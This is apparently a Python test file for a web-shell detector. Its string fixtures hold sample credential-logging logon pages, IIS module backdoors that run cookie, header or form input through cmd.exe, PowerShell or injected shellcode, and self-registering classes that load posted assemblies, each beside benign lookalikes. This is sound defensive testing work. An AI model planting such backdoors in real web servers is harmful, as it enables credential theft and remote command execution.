"""Rules from the twenty-sixth unseen collection: backdoors hidden inside legitimate pages and modules (issue
14, helper X26).

The own rules found 13 of the 14 files of the collection on first sight (BENCHMARKS.md, "Unseen shells,
twenty-sixth collection: backdoors inside legitimate pages"). The one missed is the credential logger of a
leaked intrusion kit meant for the OWA logon flow: browser script reads the logon form's password field and
posts it with ``XMLHttpRequest`` to a server page, whose code appends the posted values to a file. It runs
no command and writes no file the request names, so the behaviour analysis has nothing to call a shell; the
rule ``EXT_WEBSHELL_Logon_Form_Credential_Logger`` in ``data/rules/credential_harvesters.yar`` wants both
halves in one server page. The pages below reproduce the shape (C# and VB, ``File.AppendAllText`` and a
``StreamWriter``, the field taken by id or by name) and the ordinary logon pages closest to it. All pages
were written for these tests: nothing is compiled or run, paths and field names are placeholders, and none
is a copy of a real logger.

The collection's managed IIS module backdoors (public "IIS backdoor" projects: an ``IHttpModule`` whose
``BeginRequest`` handler hands a cookie to cmd.exe, a PowerShell runspace or shellcode) were found by the
behaviour analysis in ``App_Code``; the same classes anywhere else in a web folder are read by YARA only and no
rule of ours named them. ``EXT_WEBSHELL_Managed_Module_Backdoor`` in ``data/rules/module_backdoors.yar`` names
such a class wherever it lies; request-logging, rewriting, authentication and image-converting modules stay
silent.

Godzilla's class backdoors of the collection (a route, a VirtualPathProvider and an HttpListener registered by
the class's own static constructor, then a posted value decrypted and loaded as an assembly) were likewise
named in ``App_Code`` only; ``EXT_WEBSHELL_Self_Registering_Class_Loader`` (same file) names such a class
anywhere. A plugin framework's embedded-resource provider, an App_Start route table and a health-check
listener stay silent.
"""

from __future__ import annotations

from pathlib import Path

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, behaviour_sinks, rule_tables

_RULE = "EXT_WEBSHELL_Logon_Form_Credential_Logger"

_SCRIPT_BY_ID = (
    "<script>\nfunction sendIt() {\n"
    '  var n = document.getElementById("username");\n'
    '  var p = document.getElementById("password");\n'
    '  var s = "a=" + encodeURIComponent(n.value) + "&b=" + encodeURIComponent(p.value);\n'
    "  var h = new XMLHttpRequest();\n"
    '  h.open("POST", "/auth/placeholder.aspx", true);\n'
    '  h.setRequestHeader("Content-type", "application/x-www-form-urlencoded");\n'
    "  h.onloadend = function () { document.forms[0].submit(); };\n"
    "  h.send(s);\n}\n</script>\n"
)

CREDENTIAL_LOGGERS: list[Page] = [
    (
        "cs-append-two-request-values",
        ".aspx",
        '<%@ Page Language="C#" AutoEventWireup="false" %>\n'
        + _SCRIPT_BY_ID
        + '<%\n  if (!string.IsNullOrEmpty(Request["a"]) && !string.IsNullOrEmpty(Request["b"]))\n  {\n'
        + '    try { System.IO.File.AppendAllText(@"C:\\placeholder\\probe.txt", DateTime.Now.ToString() + "|" + '
        + 'Request.UserHostAddress + "|" + Request["a"] + "|" + Request["b"] + Environment.NewLine); } catch {}\n'
        + "  }\n%>\n",
    ),
    (
        "vb-streamwriter-form-values",
        ".aspx",
        '<%@ Page Language="VB" %>\n'
        + _SCRIPT_BY_ID
        + '<%\n  If Request.Form("a") <> "" Then\n'
        + '    Dim w As New System.IO.StreamWriter("C:\\placeholder\\probe.log", True)\n'
        + '    w.WriteLine(Request.Form("a") & ":" & Request.Form("b"))\n'
        + "    w.Close()\n  End If\n%>\n",
    ),
    (
        "cs-field-by-name-write-all-text",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script>\nfunction go() {\n'
        '  var p = document.getElementsByName("password")[0];\n'
        '  var x = new XMLHttpRequest(); x.open("POST", "placeholder.aspx");\n'
        '  var body = "k=" + encodeURIComponent(p.value); x.send(body);\n}\n</script>\n'
        '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  if (Request.Form["k"] != null) System.IO.File.WriteAllText(Server.MapPath("~/App_Data/probe.dat"), '
        'Request.Form["u"] + "\\t" + Request.Form["k"]);\n}\n</script>\n',
    ),
]

LOGON_PAGES_ORDINARY: list[Page] = [
    (
        "logon-show-password-toggle",
        ".aspx",
        '<%@ Page Language="C#" Inherits="App.Logon" %>\n<script>\nfunction showPasswordClick() {\n'
        '  var p = document.getElementById("password"), t = document.getElementById("passwordText");\n'
        '  t.value = p.value; p.style.display = "none"; t.style.display = "inline";\n}\n</script>\n'
        '<form action="/auth/logon.aspx" method="POST"><input id="username" name="username"/>'
        '<input id="password" name="password" type="password"/></form>\n<% Response.Write(Title); %>\n',
    ),
    (
        "ajax-logon-to-own-handler",
        ".aspx",
        '<%@ Page Language="C#" MasterPageFile="~/Site.Master" Inherits="App.SignIn" %>\n'
        + _SCRIPT_BY_ID.replace("/auth/placeholder.aspx", "/api/signin.ashx")
        + '<asp:Content runat="server" ContentPlaceHolderID="Main"><% if (User.Identity.IsAuthenticated) '
        'Response.Redirect("~/"); %></asp:Content>\n',
    ),
    (
        "ajax-logon-audit-log-one-value",
        ".aspx",
        '<%@ Page Language="C#" %>\n'
        + _SCRIPT_BY_ID
        + '<%\n  if (Request["a"] != null)\n'
        + '    System.IO.File.AppendAllText(Server.MapPath("~/App_Data/signin.log"), DateTime.UtcNow.ToString("o") '
        + '+ " sign-in attempt for " + Request["a"] + " from " + Request.UserHostAddress + Environment.NewLine);\n%>\n',
    ),
    (
        "contact-form-saved-to-file",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script>\nfunction post() {\n'
        '  var m = document.getElementById("message");\n'
        '  var h = new XMLHttpRequest(); h.open("POST", "contact.aspx");\n'
        '  var d = "m=" + encodeURIComponent(m.value); h.send(d);\n}\n</script>\n'
        '<% if (Request.Form["m"] != null) System.IO.File.AppendAllText(Server.MapPath("~/App_Data/contact.txt"), '
        'Request.Form["n"] + ": " + Request.Form["m"] + "\\n"); %>\n',
    ),
]

_MODULE_RULE = "EXT_WEBSHELL_Managed_Module_Backdoor"

_CS_MODULE_HEAD = (
    "using System;\nusing System.Web;\nnamespace Probe {\n  public class M : IHttpModule {\n"
    "    public void Dispose() { }\n"
    "    public void Init(HttpApplication app) { app.BeginRequest += new EventHandler(OnBegin); }\n"
)

MODULE_BACKDOORS: list[Page] = [
    (
        "cs-cookie-to-cmd",
        ".cs",
        _CS_MODULE_HEAD + "    void OnBegin(object sender, EventArgs e) {\n"
        "      HttpApplication a = (HttpApplication)sender; HttpRequest Request = a.Request;\n"
        '      HttpCookie c = Request.Cookies["probe"]; if (c == null) return;\n'
        "      var p = new System.Diagnostics.Process();\n"
        '      p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;\n'
        "      p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;\n"
        '      p.Start(); p.StandardInput.WriteLine(c.Value); p.StandardInput.WriteLine("exit");\n'
        "      a.Context.Response.Write(p.StandardOutput.ReadToEnd()); a.Context.Response.End();\n"
        "    }\n  }\n}\n",
    ),
    (
        "vb-header-to-runspace",
        ".vb",
        "Imports System.Web\nImports System.Management.Automation.Runspaces\n"
        "Public Class M\n  Implements IHttpModule\n"
        "  Public Sub Dispose() Implements IHttpModule.Dispose\n  End Sub\n"
        "  Public Sub Init(ByVal app As HttpApplication) Implements IHttpModule.Init\n"
        "    AddHandler app.PreRequestHandlerExecute, AddressOf OnPre\n  End Sub\n"
        "  Private Sub OnPre(sender As Object, e As EventArgs)\n"
        '    Dim s As String = HttpContext.Current.Request.Headers("X-Probe")\n'
        "    If s Is Nothing Then Return\n"
        "    Dim r = RunspaceFactory.CreateRunspace() : r.Open()\n"
        "    Dim pl = r.CreatePipeline() : pl.Commands.AddScript(s)\n"
        "    HttpContext.Current.Response.Write(pl.Invoke().Count)\n  End Sub\nEnd Class\n",
    ),
    (
        "cs-form-to-remote-thread",
        ".cs",
        "using System;\nusing System.Web;\nusing System.Runtime.InteropServices;\n"
        "public class N : System.Web.IHttpModule {\n  public void Dispose() { }\n"
        "  public void Init(System.Web.HttpApplication app) { app.AuthenticateRequest += Go; }\n"
        '  [DllImport("kernel32.dll")] static extern bool WriteProcessMemory(IntPtr h, IntPtr a, byte[] b, IntPtr n, int w);\n'
        '  [DllImport("kernel32.dll")] static extern IntPtr CreateRemoteThread(IntPtr h, IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr t);\n'
        "  void Go(object s, EventArgs e) {\n"
        '    string v = ((HttpApplication)s).Request.Form["probe"]; if (v == null) return;\n'
        "    byte[] b = Convert.FromBase64String(v);\n"
        "    WriteProcessMemory(IntPtr.Zero, IntPtr.Zero, b, new IntPtr(b.Length), 0);\n"
        "    CreateRemoteThread(IntPtr.Zero, IntPtr.Zero, 0, IntPtr.Zero, IntPtr.Zero, 0, IntPtr.Zero);\n  }\n}\n",
    ),
]

MODULES_ORDINARY: list[Page] = [
    (
        "request-logging-module",
        ".cs",
        _CS_MODULE_HEAD + "    void OnBegin(object sender, EventArgs e) {\n"
        "      var r = ((HttpApplication)sender).Request;\n"
        '      System.IO.File.AppendAllText(@"C:\\logs\\req.log", r.Headers["User-Agent"] + " " + r.RawUrl + "\\n");\n'
        "    }\n  }\n}\n",
    ),
    (
        "basic-auth-module",
        ".cs",
        _CS_MODULE_HEAD + "    void OnBegin(object sender, EventArgs e) {\n"
        "      var ctx = ((HttpApplication)sender).Context;\n"
        '      string h = ctx.Request.Headers["Authorization"];\n'
        '      if (h == null || !h.StartsWith("Basic ")) { ctx.Response.StatusCode = 401; ctx.Response.End(); return; }\n'
        "      string pair = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(h.Substring(6)));\n"
        "      if (!Users.Check(pair)) { ctx.Response.StatusCode = 403; ctx.Response.End(); }\n"
        "    }\n  }\n}\n",
    ),
    (
        "image-converter-module",
        ".cs",
        _CS_MODULE_HEAD + "    void OnBegin(object sender, EventArgs e) {\n"
        "      var a = (HttpApplication)sender;\n"
        '      string w = a.Request.QueryString["w"]; if (w == null) return;\n'
        '      var psi = new System.Diagnostics.ProcessStartInfo(@"C:\\tools\\magick.exe");\n'
        '      psi.Arguments = "convert in.png -resize " + int.Parse(w) + " out.png";\n'
        "      System.Diagnostics.Process.Start(psi).WaitForExit();\n"
        "    }\n  }\n}\n",
    ),
    (
        "maintenance-script-at-start-no-request",
        ".cs",
        "using System;\nusing System.Web;\npublic class W : IHttpModule {\n  public void Dispose() { }\n"
        "  public void Init(HttpApplication app) {\n"
        '    System.Diagnostics.Process.Start("cmd.exe", "/c C:\\\\ops\\\\warmup.cmd");\n'
        "    app.EndRequest += (s, e) => { };\n  }\n}\n",
    ),
]

_CLASS_RULE = "EXT_WEBSHELL_Self_Registering_Class_Loader"

_LOAD_POSTED = (
    '      byte[] d = Convert.FromBase64String(HttpContext.Current.Request.Form["probe"]);\n'
    "      var k = new byte[16];\n"
    "      d = System.Security.Cryptography.Aes.Create().CreateDecryptor(k, k).TransformFinalBlock(d, 0, d.Length);\n"
    "      var asm = (System.Reflection.Assembly)typeof(System.Reflection.Assembly)"
    '.GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d });\n'
    '      asm.CreateInstance("Probe").Equals(d);\n'
)

CLASS_LOADERS: list[Page] = [
    (
        "route-registered-by-static-constructor",
        ".cs",
        "using System;\nusing System.Web;\nusing System.Web.Routing;\n"
        "public class R : RouteBase {\n"
        "  static R() { try { RouteTable.Routes.Insert(0, new R()); } catch (Exception) { } }\n"
        "  public override RouteData GetRouteData(HttpContextBase c) {\n    try {\n"
        + _LOAD_POSTED
        + "    } catch (Exception) { }\n    return null;\n  }\n"
        "  public override VirtualPathData GetVirtualPath(RequestContext r, RouteValueDictionary v) { return null; }\n}\n",
    ),
    (
        "path-provider-registered-by-static-constructor",
        ".cs",
        "using System;\nusing System.Web;\nusing System.Web.Hosting;\nusing System.Reflection;\n"
        "public class P : VirtualPathProvider {\n"
        "  static P() {\n"
        '    typeof(HostingEnvironment).GetMethod("RegisterVirtualPathProviderInternal", '
        "BindingFlags.NonPublic | BindingFlags.Static).Invoke(null, new object[] { new P() });\n  }\n"
        "  public override string GetCacheKey(string virtualPath) {\n    try {\n"
        + _LOAD_POSTED
        + "    } catch (Exception) { }\n    return Previous.GetCacheKey(virtualPath);\n  }\n}\n",
    ),
    (
        "listener-started-by-static-constructor",
        ".cs",
        "using System;\nusing System.Net;\nusing System.IO;\nusing System.Web;\n"
        "public class L {\n"
        '  static L() { var h = new HttpListener(); h.Prefixes.Add("http://*:80/probe/"); h.Start(); }\n'
        "  void Serve(HttpListenerContext ctx) {\n"
        "    var RequestFrom = HttpUtility.ParseQueryString(new StreamReader(ctx.Request.InputStream).ReadToEnd());\n"
        '    byte[] d = Convert.FromBase64String(RequestFrom["probe"]);\n'
        '    System.Reflection.Assembly.Load(Convert.FromBase64String(RequestFrom["probe"])).CreateInstance("Probe");\n'
        "  }\n}\n",
    ),
]

CLASSES_ORDINARY: list[Page] = [
    (
        "plugin-embedded-resource-provider",
        ".cs",
        "using System;\nusing System.Web;\nusing System.Web.Hosting;\n"
        "public class EmbeddedFiles : VirtualPathProvider {\n"
        "  static EmbeddedFiles() { HostingEnvironment.RegisterVirtualPathProvider(new EmbeddedFiles()); }\n"
        "  public static void LoadPlugins() {\n"
        "    foreach (var name in System.Configuration.ConfigurationManager.AppSettings[\"plugins\"].Split(','))\n"
        "      System.Reflection.Assembly.Load(name);\n"
        '    string lang = HttpContext.Current.Request.QueryString["lang"];\n  }\n}\n',
    ),
    (
        "app-start-route-table",
        ".cs",
        "using System.Web.Mvc;\nusing System.Web.Routing;\n"
        "public class RouteConfig {\n"
        "  public static void RegisterRoutes(RouteCollection routes) {\n"
        '    routes.IgnoreRoute("{resource}.axd/{*pathInfo}");\n'
        '    routes.MapRoute("Default", "{controller}/{action}/{id}", new { controller = "Home", action = "Index" });\n'
        "  }\n}\n",
    ),
    (
        "health-check-listener",
        ".cs",
        "using System;\nusing System.Net;\n"
        "public static class Health {\n"
        '  static Health() { var h = new HttpListener(); h.Prefixes.Add("http://localhost:8099/health/"); h.Start(); }\n'
        '  static void Answer(HttpListenerContext c) { var b = System.Text.Encoding.UTF8.GetBytes("ok " + c.Request.Url); '
        "c.Response.OutputStream.Write(b, 0, b.Length); c.Response.Close(); }\n}\n",
    ),
]

CASES: list[RuleCase] = [
    (_RULE, CREDENTIAL_LOGGERS, LOGON_PAGES_ORDINARY),
    (_MODULE_RULE, MODULE_BACKDOORS, MODULES_ORDINARY),
    (_CLASS_RULE, CLASS_LOADERS, CLASSES_ORDINARY),
]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES)


# The two backdoored Exchange ``ExpiredPassword.aspx`` pages of the collection were named by YARA only on first
# sight: the behaviour analysis did not follow a ``ProcessStartInfo`` taken into a local (``i = p.StartInfo``)
# and then filled from the request before ``p.Start()``. Asked of helper A6 (/work/notes/to_a6.md, X26), who
# made the engine follow it; these two pages hold it to that.
_ALIAS_START_INFO = (
    '<%@ Page Language="C#" %>\n<%\n'
    "System.Diagnostics.Process p = new System.Diagnostics.Process();\n"
    "System.Diagnostics.ProcessStartInfo i = p.StartInfo;\n"
    'i.FileName = "cmd";\n'
    'i.Arguments = "/c " + Request.Form["b"];\n'
    "i.UseShellExecute = false;\n"
    "p.Start();\n%>\n"
)
_ALIAS_START_INFO_NO_REQUEST = _ALIAS_START_INFO.replace('Request.Form["b"]', 'Server.MapPath("~/App_Data")')


def test_start_info_taken_into_a_local_reaches_process(tmp_path: Path, params: content.ContentParams) -> None:
    assert "process" in behaviour_sinks(tmp_path, "alias.aspx", _ALIAS_START_INFO, params)


def test_start_info_local_without_request_value_has_no_process_sink(
    tmp_path: Path, params: content.ContentParams
) -> None:
    assert "process" not in behaviour_sinks(
        tmp_path, "alias-fixed.aspx", _ALIAS_START_INFO_NO_REQUEST, params
    )
